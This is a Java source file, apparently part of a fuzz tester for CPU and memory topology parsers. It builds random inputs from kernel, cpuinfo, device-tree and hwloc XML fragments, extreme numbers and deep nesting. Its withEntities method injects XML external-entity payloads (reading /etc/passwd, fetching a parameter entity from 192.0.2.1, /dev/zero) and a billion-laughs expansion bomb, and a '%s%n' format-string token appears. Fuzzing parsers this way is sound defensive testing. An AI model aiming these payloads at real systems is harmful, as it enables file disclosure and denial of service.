package dev.heddle.generators.machine.fuzz;

import com.google.common.collect.ImmutableList;
import java.util.SplittableRandom;

/** Pieces of text that mean something to some reader. */
final class Tokens {

    private static final ImmutableList<String> WORDS = ImmutableList.of(
            "0",
            "9",
            "f",
            "-",
            ",",
            ":",
            "=",
            "\"",
            "'",
            "<",
            ">",
            "{",
            "}",
            "[",
            "]",
            "(",
            ")",
            "#",
            "/",
            "\\",
            "~",
            "&",
            ";",
            "|",
            " ",
            "\t",
            "\n",
            "\n\n",
            "-1",
            "0x",
            "0x0",
            "null",
            "true",
            "y",
            "n",
            "m",
            "CONFIG_SMP=y\n",
            "# CONFIG_SMP is not set\n",
            "CONFIG_",
            "System RAM",
            "00000000-ffffffff : System RAM\n",
            "reserved",
            "node   0: [mem ",
            "memory.cnt  = 0x",
            "reg = <",
            "/* ",
            "*/",
            "//",
            "no-map;",
            "#address-cells = <2>;",
            "processor\t: 0\n",
            "processor\t: 99999\n",
            "core\t: -1\n",
            "physical id\t: 0\n",
            "# CPU,Core\n",
            "0,0,0,,,0,0\n",
            "CPU(s): 1\n",
            "Model name: -\n",
            "Thread(s) per core: 2\n",
            "0-4294967295",
            "ffffffff,",
            "-smp ",
            "sockets=65536,cores=65536,",
            "<object type=\"PU\" os_index=\"0\"/>",
            "<object type=\"",
            "os_index=\"",
            "cpuset=\"0xf...f\"",
            "</object>",
            "\"children\": [",
            "{\"field\":",
            "cpu-map {",
            "cluster0 {",
            "core0 {",
            "thread0 {",
            "cpu = <&a>;",
            "Call Trace:\n",
            "Oops[#1]:\n",
            "epc   : 80000000 f+0x0/0x0\n",
            "[<80000000>] ",
            "Linux version 6.1\n",
            "CPU0 revision is: ",
            "<NMI>",
            "</NMI>",
            "BUG: ",
            "---[ end trace ]---\n",
            "online: 0-3\n",
            "\u00e9",
            "%s%n",
            "${x}",
            "..",
            "/sys/",
            "/sys/devices/system/cpu/online:0-3\n",
            "/sys/devices/system/cpu/cpu0/topology/core_id:0\n");

    private static final ImmutableList<String> NUMBERS = ImmutableList.of(
            "0",
            "00000000000000000000",
            "1",
            "255",
            "65535",
            "65536",
            "2147483647",
            "2147483648",
            "4294967295",
            "4294967296",
            "9223372036854775807",
            "9223372036854775808",
            "18446744073709551615",
            "99999999999999999999999999999999999999",
            "1e999999999",
            "-5",
            "0.5");

    private static final ImmutableList<String> OPENERS = ImmutableList.of(
            "{",
            "[",
            "(",
            "<",
            "<a>",
            "{\"a\":",
            "[[",
            "a {",
            "x: y { ",
            "<object type=\"Group\">",
            "((",
            "{\"field\":\"a\",\"children\":[",
            "cluster0 { ",
            "> ",
            "~",
            "!",
            "- ",
            "1+(");

    private Tokens() {}

    static String pick(SplittableRandom random) {
        return WORDS.get(random.nextInt(WORDS.size()));
    }

    static String number(SplittableRandom random) {
        return random.nextInt(20) == 0 ? "7".repeat(5000) : NUMBERS.get(random.nextInt(NUMBERS.size()));
    }

    /** Thousands of levels, some in lines of their own. */
    static String deep(SplittableRandom random) {
        String opener = OPENERS.get(random.nextInt(OPENERS.size())) + (random.nextBoolean() ? "\n" : "");
        return opener.repeat(1 + random.nextInt(1 << (3 + random.nextInt(12))));
    }

    /** A document type with entities before the text, and a use of them in it. */
    static String withEntities(String text, SplittableRandom random) {
        StringBuilder type = new StringBuilder("<!DOCTYPE topology");
        switch (random.nextInt(4)) {
            case 0 -> type.append(" SYSTEM \"file:///etc/passwd\" [ <!ENTITY % p SYSTEM \"http://192.0.2.1/p\"> %p; ");
            case 1 -> type.append(" [ <!ENTITY e \"0\"> ");
            case 2 -> type.append(" [ <!ENTITY e SYSTEM \"file:///dev/zero\"> ");
            default -> {
                type.append(" [ <!ENTITY a0 \"lol\"> ");
                for (int i = 1; i < 12; i++) {
                    type.append("<!ENTITY a")
                            .append(i)
                            .append(" \"")
                            .append(("&a" + (i - 1) + ";").repeat(12))
                            .append("\"> ");
                }
                type.append("<!ENTITY e \"&a11;\"> ");
            }
        }
        type.append("]>\n");
        int at = text.isEmpty() ? 0 : random.nextInt(text.length());
        String used = random.nextBoolean()
                ? text.substring(0, at) + "&e;" + text.substring(at)
                : text.replace("=\"0\"", "=\"&e;\"");
        int body = used.startsWith("<?xml") ? used.indexOf("?>") + 2 : 0;
        int old = used.indexOf("<!DOCTYPE");
        int end = old < 0 ? -1 : used.indexOf('>', old);
        String plain = end < body ? used : used.substring(0, old) + used.substring(end + 1);
        body = Math.max(0, Math.min(body, plain.length()));
        return plain.substring(0, body) + type + plain.substring(body);
    }
}
